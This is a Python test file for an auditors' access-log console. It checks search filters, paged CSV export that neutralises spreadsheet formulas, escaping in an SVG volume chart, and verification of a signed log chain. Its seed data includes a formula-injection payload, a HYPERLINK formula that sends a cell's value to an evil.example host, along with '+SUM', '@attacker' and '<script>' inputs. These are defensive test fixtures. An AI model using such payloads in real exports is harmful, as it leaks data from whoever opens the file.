"""The access log for auditors: search, CSV (formula cells defused), daily chart, chain state."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import AsyncIterator

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from hypothesis import given
from hypothesis import strategies as st

from identity_store import create_engine, migrate, session_factory
from policies.audit import AccessEntry, AccessLog
from policies.console.accesslog import (
    DailyCount,
    Search,
    chain_state,
    csv_cell,
    csv_lines,
    daily_volume,
    every_match,
    find,
    read_search,
    verify_chain,
    volume_chart,
    volume_series,
)
from policies.repository import Sessions

DAY0 = dt.date(2026, 11, 1)
A, B = "100000000001", "100000000002"


@pytest.fixture
async def sessions(database_url: str) -> AsyncIterator[Sessions]:
    await migrate(database_url)
    engine = create_engine(database_url)
    yield session_factory(engine)
    await engine.dispose()


def at(day: int, hour: int = 10) -> dt.datetime:
    return dt.datetime.combine(DAY0 + dt.timedelta(days=day), dt.time(hour), dt.UTC)


def entry(when: dt.datetime, partner: str, purpose: str, spids=(A,), **kw) -> AccessEntry:
    return AccessEntry(
        at=when,
        partner=partner,
        purpose=purpose,
        end_user=kw.get("end_user"),
        operation_name=kw.get("operation_name", "Check"),
        document_hash="cd" * 32,
        policy_version=1,
        fields=("Person.spid", "Person.familyName"),
        spids=tuple(spids),
        household_ids=(),
        outcome="ok",
    )


async def seed(sessions: Sessions, key: Ed25519PrivateKey | None = None) -> None:
    records = [
        entry(at(0), "nssf", "enrolment"),
        entry(at(0, 11), "nssf", "enrolment", spids=(B,)),
        entry(at(1), "ngo-cash", "eligibility_check", spids=(A, B)),
        entry(
            at(1, 23),
            "ngo-cash",
            "eligibility_check",
            spids=(B,),
            end_user='=HYPERLINK("http://evil.example/?"&A1,"click")',
        ),
        entry(at(2, 0), "admin:erin", "eligibility_check", operation_name="+SUM(1,2)"),
        entry(at(3), "nspc", "statistics", spids=(B,), end_user="@attacker"),
    ]
    async with AccessLog(sessions, signing_key=key) as log:
        for record in records:
            await log.append(record)


async def seqs(sessions: Sessions, **search) -> list[int]:
    return [a.seq for a in (await find(sessions, Search(**search))).accesses]


async def test_search_by_person_partner_purpose_and_days(sessions: Sessions) -> None:
    await seed(sessions)
    assert await seqs(sessions) == [6, 5, 4, 3, 2, 1]
    assert await seqs(sessions, subject=A) == [5, 3, 1]
    assert await seqs(sessions, subject=B, partner="ngo-cash") == [4, 3]
    assert await seqs(sessions, purpose="eligibility_check") == [5, 4, 3]
    # days are whole UTC days, both ends included
    assert await seqs(
        sessions, since=DAY0 + dt.timedelta(days=1), until=DAY0 + dt.timedelta(days=1)
    ) == [4, 3]
    assert await seqs(sessions, subject=B, until=DAY0) == [2]
    # a preview by an admin is found under the admin's name
    assert await seqs(sessions, partner="admin:erin") == [5]


def test_reading_a_search_from_a_query_string() -> None:
    search, problems = read_search(
        {
            "subject": " 100000000001 ",
            "partner": "ngo-cash",
            "since": "2026-11-02",
            "until": "2026-11-01",
        }
    )
    assert search.subject == A and search.partner == "ngo-cash"
    assert problems == ["'to' is before 'from': nothing can match"]
    search, problems = read_search(
        {"subject": "<script>", "partner": "NGO CASH", "since": "yesterday", "kind": "village"}
    )
    assert search == Search()
    assert len(problems) == 4
    assert Search(subject=A, partner="nssf", since=DAY0).params() == {
        "subject": A,
        "partner": "nssf",
        "since": "2026-11-01",
    }


async def test_every_match_pages_through_and_stops_at_the_limit(sessions: Sessions) -> None:
    await seed(sessions)
    assert [a.seq async for a in every_match(sessions, Search())] == [6, 5, 4, 3, 2, 1]
    assert [a.seq async for a in every_match(sessions, Search(), limit=4)] == [6, 5, 4, 3]


async def test_the_csv_defuses_formulas_partners_wrote(sessions: Sessions) -> None:
    await seed(sessions)
    text = "".join(csv_lines([a async for a in every_match(sessions, Search())]))
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["seq"] for r in rows] == ["6", "5", "4", "3", "2", "1"]
    by_seq = {r["seq"]: r for r in rows}
    assert by_seq["4"]["end_user"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert by_seq["5"]["operation_name"] == "'+SUM(1,2)"
    assert by_seq["6"]["end_user"] == "'@attacker"
    assert by_seq["1"]["at"] == "2026-11-01T10:00:00.000000Z"
    assert by_seq["1"]["fields"] == "Person.familyName Person.spid"
    # no person's ID is in the export: records, not the people they returned
    assert A not in text and B not in text


@given(st.text(max_size=30))
def test_no_cell_can_start_a_formula(value: str) -> None:
    cell = csv_cell(value)
    stripped = cell.lstrip(" ")
    assert not stripped[:1] or stripped[0] not in "=+-@|%\t\r\n" or cell.startswith("'")
    assert cell.removeprefix("'") == value


async def test_daily_volume_per_partner_and_purpose_in_utc_days(sessions: Sessions) -> None:
    await seed(sessions)
    counts = await daily_volume(sessions, DAY0, DAY0 + dt.timedelta(days=3))
    assert counts == [
        DailyCount(DAY0, "nssf", "enrolment", 2),
        DailyCount(DAY0 + dt.timedelta(days=1), "ngo-cash", "eligibility_check", 2),
        DailyCount(DAY0 + dt.timedelta(days=2), "admin:erin", "eligibility_check", 1),
        DailyCount(DAY0 + dt.timedelta(days=3), "nspc", "statistics", 1),
    ]
    only = await daily_volume(sessions, DAY0, DAY0 + dt.timedelta(days=3), Search(partner="nssf"))
    assert [c.partner for c in only] == ["nssf"]
    with pytest.raises(ValueError):
        await daily_volume(sessions, DAY0, DAY0 + dt.timedelta(days=400))


def test_the_chart_draws_one_line_per_series_and_escapes_labels() -> None:
    counts = [
        DailyCount(DAY0, "nssf", "enrolment", 5),
        DailyCount(DAY0 + dt.timedelta(days=2), "nssf", "enrolment", 1),
        DailyCount(DAY0 + dt.timedelta(days=1), "<script>", "x&y", 2),
    ]
    days, series = volume_series(counts, DAY0, DAY0 + dt.timedelta(days=2))
    assert [s.label for s in series] == ["nssf / enrolment", "<script> / x&y"]
    assert series[0].counts == (5, 0, 1)
    svg = volume_chart(days, series)
    assert svg.startswith("<svg") and svg.count("<polyline") == 2
    assert "<script>" not in svg and "&lt;script&gt; / x&amp;y" in svg
    assert 'role="img"' in svg and "<title" in svg
    assert "nssf / enrolment (6)" in svg


def test_many_series_are_summed_past_the_busiest_eight() -> None:
    counts = [DailyCount(DAY0, f"p{n:02d}", "statistics", n + 1) for n in range(11)]
    _, series = volume_series(counts, DAY0, DAY0)
    assert len(series) == 9 and series[-1].label == "3 others" and series[-1].total == 6
    assert series[0].label == "p10 / statistics"


def test_an_empty_chart_says_so() -> None:
    days, series = volume_series([], DAY0, DAY0 + dt.timedelta(days=6))
    assert "No requests in these days." in volume_chart(days, series)


async def test_chain_state_and_verification(sessions: Sessions) -> None:
    key = Ed25519PrivateKey.generate()
    empty = await chain_state(sessions)
    assert (empty.records, empty.last_seq, empty.checkpoints) == (0, None, 0)
    await seed(sessions, key)
    state = await chain_state(sessions)
    assert (state.records, state.last_seq, state.checkpoints, state.unsigned) == (6, 6, 1, 0)
    assert state.last_checkpoint_key is not None and re.fullmatch(
        r"[0-9a-f]{16}", state.last_checkpoint_key
    )
    report = await verify_chain(sessions, [key.public_key()])
    assert report.intact and report.verified_checkpoints == 1
    unsigned = await verify_chain(sessions, [])
    assert unsigned.intact and unsigned.warnings
